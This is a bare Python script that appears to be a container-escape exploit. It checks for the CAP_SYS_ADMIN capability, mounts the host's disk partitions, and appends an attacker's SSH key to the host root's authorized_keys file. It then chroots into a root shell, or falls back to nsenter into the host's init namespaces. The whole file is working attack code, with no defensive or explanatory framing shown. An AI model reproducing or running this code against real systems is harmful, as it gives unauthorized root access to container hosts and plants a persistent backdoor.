import os, subprocess, glob

def have_cap_sys_admin():
    for line in open("/proc/self/status"):
        if line.startswith("CapEff:"):
            return int(line.split()[1], 16) & (1 << 21) != 0
    return False

def mount_host():
    os.makedirs("/mnt/host", exist_ok=True)
    for dev in sorted(glob.glob("/dev/sd[a-z]1") + glob.glob("/dev/nvme*n1p1") + glob.glob("/dev/vd[a-z]1")):
        if subprocess.run(["mount", dev, "/mnt/host"]).returncode == 0 and os.path.isdir("/mnt/host/etc"):
            return "/mnt/host"
    return None

if have_cap_sys_admin():
    root = mount_host()
    if root:
        with open(root + "/root/.ssh/authorized_keys", "a") as f:
            f.write("ssh-rsa AAAAB3NzaC1yc2EPLACEHOLDER attacker@example.com\n")
        subprocess.call(["chroot", root, "/bin/bash"])
    else:
        os.execvp("nsenter", ["nsenter", "--target", "1", "--mount", "--uts",
                              "--ipc", "--net", "--pid", "--", "/bin/bash"])
